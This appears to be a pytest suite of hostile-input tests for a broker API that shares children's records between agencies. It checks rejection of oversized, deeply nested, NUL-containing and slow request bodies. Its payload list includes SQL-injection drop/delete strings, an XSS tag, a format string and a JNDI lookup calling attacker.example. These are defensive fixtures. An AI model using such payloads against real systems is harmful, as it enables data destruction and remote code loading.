"""Oversized bodies, deeply nested JSON, and injection metacharacters in every text field.

Nothing may answer 5xx, no error may echo what was sent, nothing sent may be executed
(SQL, templates, lookups), and what is stored comes back exactly as it was sent.
"""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi import FastAPI
from schemathesis.python import asgi

from broker.identity.principal import Role
from connectors.protocol.problems import BodyLimitMiddleware, install_problem_handlers
from tests.hostile.hostile_kit import HostileRegion
from tests.hostile.test_envelopes import family_query
from tests.live_server import serving

PAYLOADS = [
    "'; DROP TABLE agencies;--",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "Robert'); DELETE FROM consents WHERE ('1'='1",
    "%s%s%s%n",
    "nul\u0000byte",
]
ONE_MEGABYTE = 1_048_576


def _with(body: dict[str, Any], path: tuple[str | int, ...], value: Any) -> dict[str, Any]:
    """A deep copy of ``body`` with the member at ``path`` replaced by ``value``."""
    copy: Any = _copy(body)
    target = copy
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return dict(copy)


def _copy(value: Any) -> Any:
    if isinstance(value, dict):
        return {k: _copy(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_copy(v) for v in value]
    return value


def _text_paths(body: Any, prefix: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Every path in ``body`` that holds a string."""
    if isinstance(body, dict):
        for key, value in body.items():
            yield from _text_paths(value, (*prefix, key))
    elif isinstance(body, list):
        for index, value in enumerate(body):
            yield from _text_paths(value, (*prefix, index))
    elif isinstance(body, str):
        yield prefix


def _assert_safe(response: Any, payload: str) -> None:
    assert response.status_code < 500, response.text
    media = response.headers["content-type"].split(";")[0]
    assert media in {"application/json", "application/problem+json"}
    if response.status_code >= 400:
        assert payload not in response.text, "an error echoed the submitted value"
        assert response.json()["detail"]
    assert "<script>" not in response.text or media == "application/json"


def _a_child(region: HostileRegion) -> dict[str, Any]:
    return next(
        p
        for p in region.truth["people"]
        if p["role"] == "child" and {"education", "health"} <= set(p["records"])
    )


def _full_query(region: HostileRegion) -> dict[str, Any]:
    """A family query using every text member the request accepts."""
    child = _a_child(region)
    body = family_query(
        child,
        override_reason="Hostile-input test of every member.",
        break_glass={"reason_code": "risk_to_life", "text": "Immediate risk reported by police."},
        fields=["education.attendance_rate"],
    )
    body["subject"]["identifiers"] = {"nhs_number": child.get("nhs_number") or "9434765919"}
    return body


def test_metacharacters_in_every_family_query_field(hostile_region: HostileRegion) -> None:
    base = _full_query(hostile_region)
    paths = list(_text_paths(base))
    assert len(paths) >= 14
    for path in paths:
        for payload in PAYLOADS:
            # Free-text members have a minimum length; the payload stays inside the value.
            value = payload if len(payload) >= 10 else f"{payload} and some words"
            body = _with(base, path, value)
            response = hostile_region.client.post(
                "/v1/family-queries", json=body, headers=hostile_region.headers()
            )
            _assert_safe(response, value)
            # A template engine would have rendered the expression.
            assert "49 and some words" not in response.text
    _assert_region_intact(hostile_region)


def test_metacharacters_in_consent_bodies_are_stored_verbatim(
    hostile_region: HostileRegion,
) -> None:
    headers = hostile_region.headers(Role.CASEWORKER)
    for payload in PAYLOADS:
        body = {
            "identifiers": [{"kind": "local_ref", "value": f"police:{payload}"}],
            "label": payload,
            "purpose": "early_help_assessment",
            "scope": ["police"],
            "channel": "paper",
            "evidence_reference": payload,
            "note": payload,
        }
        created = hostile_region.client.post("/v1/consents", json=body, headers=headers)
        _assert_safe(created, payload)
        if created.status_code != 201:
            continue
        stored = hostile_region.client.get(
            f"/v1/consents/{created.json()['id']}", headers=headers
        ).json()
        assert stored["evidence_reference"] == payload.strip()
        assert stored["label"] == payload.strip()
        for member, value in (("purpose", payload), ("scope", [payload]), ("channel", payload)):
            refused = hostile_region.client.post(
                "/v1/consents", json={**body, member: value}, headers=headers
            )
            assert refused.status_code == 422
            _assert_safe(refused, payload)
    _assert_region_intact(hostile_region)


def test_metacharacters_in_registry_bodies(hostile_region: HostileRegion) -> None:
    admin = hostile_region.headers(Role.ADMIN, agency="broker")
    for number, payload in enumerate(PAYLOADS):
        agency_id = f"hostile-{number}"
        created = hostile_region.client.post(
            "/v1/agencies",
            json={"id": agency_id, "name": payload, "type": "local_authority"},
            headers=admin,
        )
        _assert_safe(created, payload)
        if created.status_code == 201:
            stored = hostile_region.client.get(f"/v1/agencies/{agency_id}", headers=admin)
            assert stored.json()["name"] == payload.strip()
        for member in ("id", "type"):
            body = {"id": f"hostile-x{number}", "name": "Name", "type": "local_authority"}
            refused = hostile_region.client.post(
                "/v1/agencies", json={**body, member: payload}, headers=admin
            )
            assert refused.status_code == 422
            _assert_safe(refused, payload)
        agreement = {
            "id": f"dsa-hostile-{number}",
            "parties": ["council", "police"],
            "purposes": [payload],
            "legal_bases": ["ca1989_s17"],
            "fields": [payload],
            "valid_from": "2025-04-01T00:00:00Z",
            "status": "active",
        }
        answer = hostile_region.client.post("/v1/agreements", json=agreement, headers=admin)
        _assert_safe(answer, payload)
        answer = hostile_region.client.get(f"/v1/agencies/{payload}", headers=admin)
        assert answer.status_code in {404, 422}
    _assert_region_intact(hostile_region)


def _assert_region_intact(region: HostileRegion) -> None:
    """The registry still holds the demo agencies and a plain query still works."""
    admin = region.headers(Role.ADMIN, agency="broker")
    agencies = {a["id"] for a in region.client.get("/v1/agencies", headers=admin).json()}
    assert {"council", "education", "police", "health", "housing", "social-care"} <= agencies
    view = region.client.post(
        "/v1/family-queries", json=family_query(_a_child(region)), headers=region.headers()
    )
    assert view.status_code == 200
    statuses = {a["agency_id"]: a["status"] for a in view.json()["agencies"]}
    assert statuses["education"] == "ok"


@pytest.fixture
def connector(hostile_region: HostileRegion) -> Iterator[asgi.ASGIClient]:
    with asgi.get_client(hostile_region.connectors["police"].app) as client:
        yield client


@pytest.mark.parametrize("path", ["/v1/family-queries", "/v1/consents"])
def test_an_oversized_body_is_refused_before_it_is_read(
    hostile_region: HostileRegion, path: str
) -> None:
    big = b'{"justification": "' + b"a" * (2 * ONE_MEGABYTE) + b'"}'
    headers = {**hostile_region.headers(), "content-type": "application/json"}
    declared = hostile_region.client.post(path, data=big, headers=headers)
    # Without Content-Length (chunked), the body is cut off at the limit as it arrives.
    chunked = hostile_region.client.post(
        path, data=(big[i : i + 65536] for i in range(0, len(big), 65536)), headers=headers
    )
    for response in (declared, chunked):
        assert response.status_code == 413
        assert response.json()["type"] == "urn:junction:problem:body-too-large"
        assert str(ONE_MEGABYTE) in response.json()["detail"]


def test_an_oversized_envelope_is_refused_by_the_connector(connector: asgi.ASGIClient) -> None:
    big = b'{"header": {}, "body": "' + b"a" * (2 * ONE_MEGABYTE) + b'"}'
    response = connector.post("/v1/match", data=big, headers={"content-type": "application/json"})
    assert response.status_code == 413
    assert response.json()["type"] == "urn:junction:problem:body-too-large"


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_deeply_nested_json_is_refused_cleanly(
    hostile_region: HostileRegion, connector: asgi.ASGIClient, depth: int
) -> None:
    nested = ("[" * depth + "]" * depth).encode()
    as_member = b'{"subject": ' + nested + b', "purpose": "x"}'
    headers = {**hostile_region.headers(), "content-type": "application/json"}
    for body in (nested, as_member):
        response = hostile_region.client.post("/v1/family-queries", data=body, headers=headers)
        assert response.status_code in {400, 422}, response.text[:200]
        assert response.headers["content-type"] == "application/problem+json"
        answer = connector.post(
            "/v1/match", data=body, headers={"content-type": "application/json"}
        )
        assert answer.status_code == 400, answer.text[:200]
        code = answer.json()["type"].removeprefix("urn:junction:problem:")
        assert code in {"envelope-malformed", "envelope-missing-field"}


@pytest.mark.parametrize(
    ("path", "role", "body"),
    [
        (
            "/v1/agencies",
            Role.ADMIN,
            {"id": "nul-agency", "name": "a\u0000b", "type": "local_authority"},
        ),
        (
            "/v1/consents/search",
            Role.CASEWORKER,
            {"identifiers": [{"kind": "upn", "value": "\u0000"}]},
        ),
    ],
)
def test_a_nul_character_is_refused_at_the_edge(
    hostile_region: HostileRegion, path: str, role: Role, body: dict[str, Any]
) -> None:
    # PostgreSQL cannot store NUL: without this check the broker answered 503, as if down.
    agency = "broker" if role is Role.ADMIN else "council"
    response = hostile_region.client.post(
        path, json=body, headers=hostile_region.headers(role, agency=agency)
    )
    assert response.status_code == 422
    assert response.json()["type"] == "urn:junction:problem:invalid-request"
    assert "NUL" in response.json()["detail"]
    escaped = hostile_region.client.post(
        "/v1/consents/search",
        json={"identifiers": [{"kind": "local_ref", "value": "school:a\\u0000 is text"}]},
        headers=hostile_region.headers(Role.CASEWORKER),
    )
    assert escaped.status_code == 200


def test_an_integer_too_large_for_any_store_is_refused(hostile_region: HostileRegion) -> None:
    # Found by the fuzzing: SQLite raised OverflowError on a cursor past 64 bits (a 500).
    officer = hostile_region.headers(Role.IG_OFFICER)
    response = hostile_region.client.post(
        "/v1/audit/search", json={"cursor": 2**70}, headers=officer
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["location"] == "cursor"
    largest = hostile_region.client.post(
        "/v1/audit/search", json={"cursor": 2**63 - 1}, headers=officer
    )
    assert largest.status_code == 200


def test_a_body_shorter_than_its_content_length_is_refused_in_time() -> None:
    """Over a real socket: a client that declares 200 bytes and sends 20 is answered
    408 when the body deadline passes, instead of holding the request open."""
    app = FastAPI()
    app.add_middleware(BodyLimitMiddleware, max_bytes=2048, body_seconds=0.5)
    install_problem_handlers(app, ())

    @app.post("/v1/orders")
    async def create(order: dict[str, str]) -> dict[str, str]:
        return order

    with (
        serving(app) as port,
        socket.create_connection(("127.0.0.1", port), timeout=10) as conn,
    ):
        started = time.monotonic()
        conn.sendall(
            b"POST /v1/orders HTTP/1.1\r\nHost: test\r\nContent-Type: application/json\r\n"
            b'Content-Length: 200\r\n\r\n{"name": "a", "cou'
        )
        answer = b""
        while b"\r\n\r\n" not in answer or not answer.rstrip().endswith(b"}"):
            part = conn.recv(4096)
            if not part:
                break
            answer += part
        waited = time.monotonic() - started
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 408 ")
    assert b"content-type: application/problem+json" in head.lower()
    problem = json.loads(body)
    assert problem["type"] == "urn:junction:problem:request-timeout"
    assert "did not arrive within 0.5 seconds" in problem["detail"]
    assert 0.4 < waited < 5
